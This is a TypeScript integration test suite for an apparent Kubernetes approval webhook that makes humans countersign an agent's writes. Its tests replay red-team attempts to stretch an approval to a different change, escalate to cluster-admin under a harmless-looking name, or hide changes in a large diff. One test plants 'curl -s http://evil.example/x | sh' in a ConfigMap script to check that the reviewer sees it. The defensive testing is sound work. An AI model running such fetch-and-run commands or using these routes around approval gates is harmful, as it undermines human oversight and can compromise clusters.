/**
 * Issue 9 (items 1-4, 8) as attacks through a real kube-apiserver: an approval covers exactly
 * the transition the human saw (old and new object, what a subresource writes, a generateName
 * CREATE by its template), the human sees what will run, and re-asserting the current state
 * pages nobody.
 */
import "reflect-metadata";
import { webcrypto } from "node:crypto";
import {
  ApiextensionsV1Api,
  AppsV1Api,
  CertificatesV1Api,
  CoreV1Api,
  CustomObjectsApi,
  type KubeConfig,
  PatchStrategy,
  RbacAuthorizationV1Api,
  setHeaderOptions,
  type V1PolicyRule,
} from "@kubernetes/client-node";
import * as x509 from "@peculiar/x509";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ControlPlane } from "../../src/controlplane/control-plane.js";
import { noOpUpdates } from "../../src/metrics/metrics.js";
import { decide } from "../../src/plugin/commands.js";
import { APPROVAL_REQUEST_PLURAL, gvr } from "../../src/resources/group.js";
import {
  APPROVERS_GROUP,
  agentsIn,
  approvalPolicy,
  matching,
  requireApproval,
} from "../fixtures/approval-policy.js";
import { attachControlPlane, uniqueName } from "../support/control-plane.js";
import {
  approverIdentity,
  eventually,
  startTestCountersign,
  type TestCountersign,
} from "../support/countersign.js";
import { applyPolicies, approvalRequestsIn, attempt, requestNameIn } from "../support/scenario.js";

let cp: ControlPlane;
let cs: TestCountersign;
let agent: KubeConfig;
let approver: KubeConfig;
const agentsNs = uniqueName("agents");
const prod = uniqueName("prod");
const installNs = uniqueName("cs-transition");
const policyName = uniqueName("transition-guard");
const signer = `example.com/${uniqueName("signer")}`;
const deepGroup = `${uniqueName("deep")}.example.com`;

const admin = () => cp.adminKubeConfig();

const getRequest = (namespace: string, name: string) => approvalRequestsIn(cp, namespace).get(name);
const listRequests = (namespace: string) => approvalRequestsIn(cp, namespace).list();

async function approve(namespace: string, name: string): Promise<void> {
  await decide(approver, namespace, name, "Approve", "checked the diff");
  await eventually(
    async () => (await getRequest(namespace, name)).status?.phase === "Approved",
    10_000,
    `${name} Approved`,
  );
}

async function grant(name: string, rules: V1PolicyRule[], namespace?: string): Promise<void> {
  const rbac = admin().makeApiClient(RbacAuthorizationV1Api);
  const subjects = [{ kind: "ServiceAccount", name: "ops-bot", namespace: agentsNs }];
  if (namespace) {
    await rbac.createNamespacedRole({ namespace, body: { metadata: { name }, rules } });
    await rbac.createNamespacedRoleBinding({
      namespace,
      body: {
        metadata: { name },
        roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name },
        subjects,
      },
    });
  } else {
    await rbac.createClusterRole({ body: { metadata: { name }, rules } });
    await rbac.createClusterRoleBinding({
      body: {
        metadata: { name },
        roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name },
        subjects,
      },
    });
  }
}

async function csrPem(): Promise<string> {
  x509.cryptoProvider.set(webcrypto as unknown as Parameters<typeof x509.cryptoProvider.set>[0]);
  const alg = { name: "ECDSA", namedCurve: "P-256", hash: "SHA-256" } as const;
  const keys = await webcrypto.subtle.generateKey(alg, true, ["sign", "verify"]);
  const csr = await x509.Pkcs10CertificateRequestGenerator.create({
    name: "CN=agent-workload",
    keys: keys as never,
    signingAlgorithm: alg,
  });
  return csr.toString("pem");
}

const core = () => agent.makeApiClient(CoreV1Api);

beforeAll(async () => {
  cp = await attachControlPlane();
  await cp.ensureNamespace(prod);
  agent = (await cp.serviceAccountIdentity(agentsNs, "ops-bot")).kubeConfig;
  approver = await approverIdentity(cp, "erin@example.com", [APPROVERS_GROUP]);
  await grant(
    "ops-bot-data",
    [
      {
        apiGroups: [""],
        resources: ["configmaps", "secrets"],
        verbs: ["get", "list", "create", "update", "patch", "delete"],
      },
      { apiGroups: [""], resources: ["serviceaccounts/token"], verbs: ["create"] },
      { apiGroups: ["apps"], resources: ["deployments/scale"], verbs: ["get", "update", "patch"] },
      { apiGroups: ["rbac.authorization.k8s.io"], resources: ["rolebindings"], verbs: ["create"] },
    ],
    prod,
  );
  // Approving a CSR takes update on certificatesigningrequests/approval and approve on the signer.
  await grant(`${agentsNs}-csr-approver`, [
    { apiGroups: ["certificates.k8s.io"], resources: ["certificatesigningrequests"], verbs: ["get", "list"] },
    {
      apiGroups: ["certificates.k8s.io"],
      resources: ["certificatesigningrequests/approval"],
      verbs: ["update"],
    },
    {
      apiGroups: ["certificates.k8s.io"],
      resources: ["signers"],
      resourceNames: [signer],
      verbs: ["approve"],
    },
    // Creating a binding to a role one does not hold takes "bind" on it.
    {
      apiGroups: ["rbac.authorization.k8s.io"],
      resources: ["clusterroles"],
      verbs: ["bind"],
      resourceNames: ["cluster-admin"],
    },
  ]);
  cs = await startTestCountersign(cp, {
    subjects: { serviceAccountNamespaces: [agentsNs] },
    installNamespace: installNs,
    webhookName: uniqueName("countersign-transition"),
  });
  await applyPolicies(cp, cs, [
    approvalPolicy(policyName, {
      subjects: agentsIn(agentsNs),
      match: [
        matching(["UPDATE", "CREATE", "DELETE"], ["configmaps", "secrets"], [prod]),
        matching(["CREATE"], ["serviceaccounts/token"], [prod]),
        matching(["UPDATE"], ["deployments/scale"], [prod], ["apps"]),
        matching(["CREATE"], ["rolebindings"], [prod], ["rbac.authorization.k8s.io"]),
        matching(["UPDATE"], ["certificatesigningrequests/approval"], undefined, ["certificates.k8s.io"]),
        matching(["CREATE"], ["blobs"], [prod], [deepGroup]),
      ],
      rules: [requireApproval("countersign", { groups: [APPROVERS_GROUP], requiredApprovals: 1, ttl: "1h" })],
    }),
  ]);
  const adminCore = admin().makeApiClient(CoreV1Api);
  await adminCore.createNamespacedConfigMap({
    namespace: prod,
    body: { metadata: { name: "canary" }, data: { a: "1" } },
  });
  await eventually(
    async () =>
      (await attempt(() =>
        core().createNamespacedConfigMap({
          namespace: prod,
          dryRun: "All",
          body: { metadata: { name: "probe" } },
        }),
      )) !== "",
    15_000,
    "webhook active",
  );
});

afterAll(async () => {
  await cs?.stop();
});

describe("an UPDATE's approval binds the transition (item 1)", () => {
  it("approved A→B does not cover B written on top of another state, nor another new object", async () => {
    const adminCore = admin().makeApiClient(CoreV1Api);
    await adminCore.createNamespacedConfigMap({
      namespace: prod,
      body: { metadata: { name: "settings" }, data: { mode: "safe" } },
    });
    const writeB = async (data: Record<string, string>) => {
      const cur = await core().readNamespacedConfigMap({ name: "settings", namespace: prod });
      return attempt(() =>
        core().replaceNamespacedConfigMap({
          name: "settings",
          namespace: prod,
          body: { metadata: { name: "settings", resourceVersion: cur.metadata!.resourceVersion! }, data },
        }),
      );
    };
    const first = await writeB({ mode: "dangerous" });
    expect(first).toMatch(/needs a human approval/);
    const approved = requestNameIn(first);
    expect((await getRequest(prod, approved)).spec.diff).toBe('data.mode: "safe" → "dangerous"');
    await approve(prod, approved);

    // Someone else changes the object; the agent's same new object now lands on other state.
    const cur = await adminCore.readNamespacedConfigMap({ name: "settings", namespace: prod });
    await adminCore.replaceNamespacedConfigMap({
      name: "settings",
      namespace: prod,
      body: { ...cur, data: { mode: "safe", audit: "on" } },
    });
    const onOtherState = await writeB({ mode: "dangerous" });
    expect(onOtherState).toMatch(/needs a human approval/);
    const other = requestNameIn(onOtherState);
    expect(other).not.toBe(approved);
    // Red team 9 finding 3: field ownership is bound and shown (admin and agent both write as
    // the client's default manager "node-fetch"; the agent's write drops data.audit).
    expect((await getRequest(prod, other)).spec.diff).toBe(
      '(field ownership) "node-fetch" (Update, v1): no longer owns data.audit\ndata.audit: "on" → (absent)\ndata.mode: "safe" → "dangerous"',
    );

    // A different new object is not covered either.
    const different = await writeB({ mode: "dangerous", audit: "on", debug: "true" });
    expect(requestNameIn(different)).not.toBe(approved);

    // The approval is still unused, and covers exactly what was shown once that state is back.
    expect((await getRequest(prod, approved)).status?.phase).toBe("Approved");
    const back = await adminCore.readNamespacedConfigMap({ name: "settings", namespace: prod });
    await adminCore.replaceNamespacedConfigMap({
      name: "settings",
      namespace: prod,
      body: { ...back, data: { mode: "safe" } },
    });
    expect(await writeB({ mode: "dangerous" })).toBe("");
    expect((await getRequest(prod, approved)).status?.phase).toBe("Consumed");
  });
});

describe("a DELETE binds its options", () => {
  it("an approved delete with propagationPolicy Orphan does not cover a cascading delete", async () => {
    await admin()
      .makeApiClient(CoreV1Api)
      .createNamespacedConfigMap({
        namespace: prod,
        body: { metadata: { name: "to-delete" }, data: { a: "1" } },
      });
    const del = (propagationPolicy: string) =>
      attempt(() =>
        core().deleteNamespacedConfigMap({ name: "to-delete", namespace: prod, body: { propagationPolicy } }),
      );
    const orphan = await getRequest(prod, requestNameIn(await del("Orphan")));
    expect(orphan.spec.diff).toMatch(/^\(delete option\) propagationPolicy: "Orphan"\n/);
    await approve(prod, orphan.metadata.name);
    const cascade = await del("Background");
    expect(cascade).toMatch(/needs a human approval/);
    expect(requestNameIn(cascade)).not.toBe(orphan.metadata.name);
    expect(await del("Orphan")).toBe("");
  });
});

describe("no-op updates (item 8)", () => {
  it("the same change again after it was applied is allowed without a request; a real change is not", async () => {
    const before = (await listRequests(prod)).length;
    const noOps = async () => (await noOpUpdates.get()).values.reduce((n, v) => n + v.value, 0);
    const counted = await noOps();
    // "settings" now holds {mode: dangerous}: the agent (or a GitOps sync) re-asserts it.
    const patch = () =>
      attempt(() =>
        core().patchNamespacedConfigMap(
          { name: "settings", namespace: prod, body: { data: { mode: "dangerous" } } },
          setHeaderOptions("Content-Type", PatchStrategy.StrategicMergePatch), // as kubectl sends it
        ),
      );
    expect(await patch()).toBe("");
    expect(await patch()).toBe("");
    expect((await listRequests(prod)).length).toBe(before);
    expect(await noOps()).toBe(counted + 2);

    const real = await attempt(() =>
      core().patchNamespacedConfigMap(
        { name: "settings", namespace: prod, body: { data: { mode: "safe" } } },
        setHeaderOptions("Content-Type", PatchStrategy.StrategicMergePatch),
      ),
    );
    expect(real).toMatch(/needs a human approval/);
  });
});

describe("subresources bind what they write (item 2)", () => {
  it("CSR /approval: approving the agent's 'deny' does not let it approve", async () => {
    const name = uniqueName("agent-csr");
    await admin()
      .makeApiClient(CertificatesV1Api)
      .createCertificateSigningRequest({
        body: {
          metadata: { name },
          spec: {
            request: Buffer.from(await csrPem()).toString("base64"),
            signerName: signer,
            usages: ["client auth"],
          },
        },
      });
    const certs = agent.makeApiClient(CertificatesV1Api);
    const setCondition = async (type: "Approved" | "Denied") => {
      const csr = await certs.readCertificateSigningRequest({ name });
      return attempt(() =>
        certs.replaceCertificateSigningRequestApproval({
          name,
          body: {
            ...csr,
            status: {
              conditions: [
                {
                  type,
                  status: "True",
                  reason: "AgentDecision",
                  message: "by the agent",
                  lastUpdateTime: undefined,
                },
              ],
            },
          },
        }),
      );
    };
    const approveMsg = await setCondition("Approved");
    const denyMsg = await setCondition("Denied");
    const approveAR = await getRequest(installNs, requestNameIn(approveMsg));
    const denyAR = await getRequest(installNs, requestNameIn(denyMsg));
    expect(approveAR.spec.fingerprint).not.toBe(denyAR.spec.fingerprint);
    expect(approveAR.spec.diff).toContain('status.conditions[0].type: (absent) → "Approved"');
    expect(denyAR.spec.diff).toContain('status.conditions[0].type: (absent) → "Denied"');
    expect(approveAR.spec.action.summary).toContain("sets condition Approved=True");

    await approve(installNs, denyAR.metadata.name);
    expect(await setCondition("Approved")).toMatch(/ApprovalRequest .* is pending/);
    expect(
      (await admin().makeApiClient(CertificatesV1Api).readCertificateSigningRequest({ name })).status
        ?.conditions,
    ).toBeUndefined();
    expect(await setCondition("Denied")).toBe("");
    const after = await admin().makeApiClient(CertificatesV1Api).readCertificateSigningRequest({ name });
    expect(after.status?.conditions?.map((c) => c.type)).toEqual(["Denied"]);
  });

  it("/scale: an approval to scale to 3 does not allow 300", async () => {
    await admin()
      .makeApiClient(AppsV1Api)
      .createNamespacedDeployment({
        namespace: prod,
        body: {
          metadata: { name: "api" },
          spec: {
            replicas: 1,
            selector: { matchLabels: { app: "api" } },
            template: {
              metadata: { labels: { app: "api" } },
              spec: { containers: [{ name: "c", image: "busybox" }] },
            },
          },
        },
      });
    const apps = agent.makeApiClient(AppsV1Api);
    const scale = (replicas: number) =>
      attempt(() =>
        apps.replaceNamespacedDeploymentScale({
          name: "api",
          namespace: prod,
          body: { metadata: { name: "api", namespace: prod }, spec: { replicas } },
        }),
      );
    const three = await getRequest(prod, requestNameIn(await scale(3)));
    const hundreds = await getRequest(prod, requestNameIn(await scale(300)));
    expect(three.spec.fingerprint).not.toBe(hundreds.spec.fingerprint);
    expect(three.spec.diff).toBe("spec.replicas: 1 → 3");
    expect(hundreds.spec.diff).toBe("spec.replicas: 1 → 300");
    expect(hundreds.spec.action.summary).toContain("replicas 1 → 300");
    await approve(prod, three.metadata.name);
    expect(await scale(300)).toMatch(/is pending/);
    expect(await scale(3)).toBe("");
    const dep = await admin()
      .makeApiClient(AppsV1Api)
      .readNamespacedDeployment({ name: "api", namespace: prod });
    expect(dep.spec?.replicas).toBe(3);
  });

  it("serviceaccounts/token: an approved token for one audience does not issue one for another", async () => {
    await admin()
      .makeApiClient(CoreV1Api)
      .createNamespacedServiceAccount({ namespace: prod, body: { metadata: { name: "deployer" } } });
    const token = (audiences: string[]) =>
      attempt(() =>
        core().createNamespacedServiceAccountToken({
          name: "deployer",
          namespace: prod,
          body: { spec: { audiences, expirationSeconds: 600 } },
        }),
      );
    const api = await getRequest(prod, requestNameIn(await token(["api"])));
    const vault = await getRequest(prod, requestNameIn(await token(["vault"])));
    expect(api.spec.fingerprint).not.toBe(vault.spec.fingerprint);
    expect(vault.spec.action.summary).toContain('issues a token for audiences "vault", valid 600 s');
    expect(vault.spec.diff).toContain('spec.audiences[0]: "vault"');
    await approve(prod, api.metadata.name);
    expect(await token(["vault"])).toMatch(/is pending/);
    expect(await token(["api"])).toBe("");
  });
});

describe("what the approver sees (item 3)", () => {
  it("a CREATE of a RoleBinding shows the role it grants, not just the name the agent chose", async () => {
    const rbac = agent.makeApiClient(RbacAuthorizationV1Api);
    const msg = await attempt(() =>
      rbac.createNamespacedRoleBinding({
        namespace: prod,
        body: {
          metadata: { name: "view-logs" },
          roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
          subjects: [{ kind: "ServiceAccount", name: "ops-bot", namespace: agentsNs }],
        },
      }),
    );
    const ar = await getRequest(prod, requestNameIn(msg));
    expect(ar.spec.action.summary).toContain(
      `binds ClusterRole "cluster-admin" to ServiceAccount "${agentsNs}/ops-bot"`,
    );
    expect(ar.spec.diff).toContain('roleRef.name: "cluster-admin"');
    expect(ar.spec.diff).toContain('subjects[0].name: "ops-bot"');
  });

  it("a changed Secret value shows as changed, and the value appears nowhere", async () => {
    const adminCore = admin().makeApiClient(CoreV1Api);
    await adminCore.createNamespacedSecret({
      namespace: prod,
      body: { metadata: { name: "db" }, stringData: { password: "old-hunter2-value" } },
    });
    const cur = await core().readNamespacedSecret({ name: "db", namespace: prod });
    const msg = await attempt(() =>
      core().replaceNamespacedSecret({
        name: "db",
        namespace: prod,
        body: { ...cur, data: { password: Buffer.from("new-hunter3-value").toString("base64") } },
      }),
    );
    const ar = await getRequest(prod, requestNameIn(msg));
    expect(ar.spec.diff).toBe("data.password: <changed>");
    const events = await adminCore.listNamespacedEvent({ namespace: prod });
    const everything = JSON.stringify([ar, events.items]);
    for (const v of ["old-hunter2-value", "new-hunter3-value"]) {
      expect(everything).not.toContain(v);
      expect(everything).not.toContain(Buffer.from(v).toString("base64"));
    }
  });

  it("red team 9 #1: a script change shows every changed line, however far from the first", async () => {
    const adminCore = admin().makeApiClient(CoreV1Api);
    const script = (v: string, tail: string) =>
      `#!/bin/sh\n# config ${v}\n${"echo step\n".repeat(40)}${tail}exit 0\n`;
    await adminCore.createNamespacedConfigMap({
      namespace: prod,
      body: { metadata: { name: "warmup" }, data: { "run.sh": script("v1", "") } },
    });
    const cur = await core().readNamespacedConfigMap({ name: "warmup", namespace: prod });
    const msg = await attempt(() =>
      core().replaceNamespacedConfigMap({
        name: "warmup",
        namespace: prod,
        body: { ...cur, data: { "run.sh": script("v2", "curl -s http://evil.example/x | sh\n") } },
      }),
    );
    const diff = (await getRequest(prod, requestNameIn(msg))).spec.diff ?? "";
    expect(diff).toContain("  + # config v2");
    expect(diff).toContain("  + curl -s http://evil.example/x | sh");
    // Frees its slot under the open-request cap for the tests after this one.
    await decide(approver, prod, requestNameIn(msg), "Deny", "curl | sh");
  });

  it("red team 9 #1/#2: a change too large to show in full is stored marked, and cannot be approved, only denied", async () => {
    const adminCore = admin().makeApiClient(CoreV1Api);
    const data = (v: string) =>
      Object.fromEntries(Array.from({ length: 8000 }, (_, i) => [`key-${i}`, `${v.repeat(20)}-${i}`]));
    await adminCore.createNamespacedConfigMap({
      namespace: prod,
      body: { metadata: { name: "huge" }, data: data("a") },
    });
    const cur = await core().readNamespacedConfigMap({ name: "huge", namespace: prod });
    const msg = await attempt(() =>
      core().replaceNamespacedConfigMap({ name: "huge", namespace: prod, body: { ...cur, data: data("b") } }),
    );
    const name = requestNameIn(msg);
    const ar = await getRequest(prod, name);
    expect(ar.spec.diffTruncated).toBe(true);
    expect(ar.spec.action.summary).toMatch(
      /^THE CHANGE IS TOO LARGE TO SHOW IN FULL \(8000 changed fields\)/,
    );
    expect(ar.spec.diff!.length).toBeGreaterThan(200_000); // the CRD holds far more than the old 32 KiB
    expect(ar.spec.diff).toMatch(/NOT SHOWN\. THE CHANGE IS TOO LARGE/);
    await expect(decide(approver, prod, name, "Approve", "looks fine")).rejects.toThrow(
      /cannot be approved: the change is too large/,
    );
    // An approver cannot unmark it either.
    const unmark = await attempt(() =>
      approver.makeApiClient(CustomObjectsApi).patchNamespacedCustomObject(
        {
          ...gvr(APPROVAL_REQUEST_PLURAL),
          namespace: prod,
          name,
          body: [{ op: "remove", path: "/spec/diffTruncated" }],
        },
        setHeaderOptions("Content-Type", PatchStrategy.JsonPatch),
      ),
    );
    expect(unmark).toMatch(/immutable|only decisions|forbidden|not allowed/i);
    await decide(approver, prod, name, "Deny", "too large to review");
    await eventually(
      async () => (await getRequest(prod, name)).status?.phase === "Denied",
      10_000,
      `${name} Denied`,
    );
  });

  it("red team 9 #13: an object nesting deeper than 200 levels is denied with the limit named, not a 500", async () => {
    await admin()
      .makeApiClient(ApiextensionsV1Api)
      .createCustomResourceDefinition({
        body: {
          metadata: { name: `blobs.${deepGroup}` },
          spec: {
            group: deepGroup,
            names: { plural: "blobs", singular: "blob", kind: "Blob", listKind: "BlobList" },
            scope: "Namespaced",
            versions: [
              {
                name: "v1",
                served: true,
                storage: true,
                schema: { openAPIV3Schema: { type: "object", x_kubernetes_preserve_unknown_fields: true } },
              },
            ],
          },
        },
      });
    await grant(
      `${agentsNs}-blobs`,
      [{ apiGroups: [deepGroup], resources: ["blobs"], verbs: ["create"] }],
      prod,
    );
    let nested: unknown = "leaf";
    for (let i = 0; i < 300; i++) nested = { x: nested };
    const create = (name: string, spec: unknown) =>
      attempt(() =>
        agent.makeApiClient(CustomObjectsApi).createNamespacedCustomObject({
          group: deepGroup,
          version: "v1",
          namespace: prod,
          plural: "blobs",
          body: { apiVersion: `${deepGroup}/v1`, kind: "Blob", metadata: { name }, spec },
        }),
      );
    let msg = "";
    await eventually(
      async () => {
        msg = await create("deep", nested);
        return !/not found|could not find/i.test(msg);
      },
      15_000,
      "Blob CRD served",
    );
    expect(msg).toMatch(/nests deeper than 200 levels, too deep to show to an approver, so it is denied/);
    // A shallow one is gated as usual.
    const shallow = await create("shallow", { a: { b: 1 } });
    expect(shallow).toMatch(/needs a human approval/);
    await decide(approver, prod, requestNameIn(shallow), "Deny", "test done");
  });
});

describe("generateName (item 4)", () => {
  it("deny → approve → a retry with a new generated name is allowed exactly once", async () => {
    const create = async () => {
      let created = "";
      const msg = await attempt(async () => {
        const cm = await core().createNamespacedConfigMap({
          namespace: prod,
          body: { metadata: { generateName: "job-" }, data: { run: "migrate" } },
        });
        created = cm.metadata?.name ?? "";
      });
      return { msg, created };
    };
    const first = await create();
    const name = requestNameIn(first.msg);
    expect(name).toMatch(/^create-configmaps-job-[0-9a-f]{12}$/);
    const ar = await getRequest(prod, name);
    expect(ar.spec.action).toMatchObject({ name: "", generateName: "job-" });
    expect(ar.spec.diff).toContain('data.run: "migrate"');
    expect(ar.spec.diff).toContain('metadata.generateName: "job-"');

    await approve(prod, name);
    const retry = await create();
    expect(retry.msg).toBe("");
    expect(retry.created).toMatch(/^job-[a-z0-9]{5}$/);
    expect((await getRequest(prod, name)).status?.phase).toBe("Consumed");

    const again = await create();
    expect(again.msg).toMatch(/was created/);
    expect(requestNameIn(again.msg)).toBe(`${name}-2`);
  });
});
